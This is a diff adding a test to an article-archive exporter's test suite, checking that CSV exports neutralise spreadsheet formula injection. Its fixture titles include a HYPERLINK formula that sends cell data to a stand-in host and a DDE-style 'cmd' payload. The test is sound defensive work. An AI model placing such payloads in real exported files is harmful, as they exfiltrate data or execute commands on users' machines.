@@ -255,6 +255,44 @@ def test_export_bad_input_writes_nothing(research_archive: Path, tmp_path: Path)
     assert list(tmp_path.iterdir()) == []
 
 
+def test_csv_exports_never_hand_a_spreadsheet_a_formula(tmp_path: Path) -> None:
+    """Text a page wrote that a spreadsheet would run ("=HYPERLINK(…)", "@SUM(…)", "+84 …",
+    "-…") is exported with a leading "'" in CSV, with or without --bom; --raw-cells and JSON Lines
+    keep what is stored."""
+    db = tmp_path / "formulas.sqlite"
+    titles = {
+        "https://hue.gov.vn/tin/1": '=HYPERLINK("http://example.invalid/?q="&A1,"Xem chi tiết")',
+        "https://hue.gov.vn/tin/2": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "https://hue.gov.vn/tin/3": "+84 234 3822 xxx: đường dây nóng",
+        "https://hue.gov.vn/tin/4": "-Thông báo lịch tiếp công dân tháng 5",
+        "https://hue.gov.vn/tin/5": "\tTổng kết công tác năm 2024",
+        "https://hue.gov.vn/tin/6": "Hội nghị tổng kết công tác năm 2024 = thành công",
+    }
+    body = "Ủy ban nhân dân tỉnh tổ chức hội nghị tổng kết công tác chuyển đổi số năm 2024 tại thành phố Huế."
+    with Archive(db) as archive:
+        batch = Batch()
+        for url, title in titles.items():
+            batch.articles.append(
+                (Record(url=url, site="hue.gov.vn", title=title, date="2024-05-01", body=body), Provenance("2024-05-02", url))
+            )
+        archive.write(batch)
+    for extra in ((), ("--bom",)):
+        out = tmp_path / f"articles{len(extra)}.csv"
+        assert run_cli("export", "articles", "--db", str(db), *extra, "--out", str(out)).code == 0
+        rows = {r["url"]: r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
+        for url, title in titles.items():
+            inert = "'" + title if title[0] in "=+-@\t" else title
+            assert rows[url]["title"] == inert, (url, rows[url]["title"])
+        assert rows["https://hue.gov.vn/tin/1"]["views"] == ""  # (no number is touched)
+    raw = run_cli("export", "articles", "--db", str(db), "--raw-cells")
+    assert raw.code == 0
+    assert {r["url"]: r["title"] for r in csv.DictReader(io.StringIO(raw.out))} == titles
+    lines = run_cli("export", "articles", "--db", str(db), "--format", "jsonl").out.splitlines()
+    assert {json.loads(line)["url"]: json.loads(line)["title"] for line in lines} == titles
+    refused = run_cli("export", "articles", "--db", str(db), "--format", "jsonl", "--raw-cells")
+    assert refused.code == 2 and "applies to --format csv only" in refused.err
+
+
 def test_export_streams_in_constant_memory(tmp_path: Path) -> None:
     """2,000 articles of 20 kB (40 MB of text) go through in well under a megabyte of Python
     memory: rows are written as the cursor yields them, never gathered."""
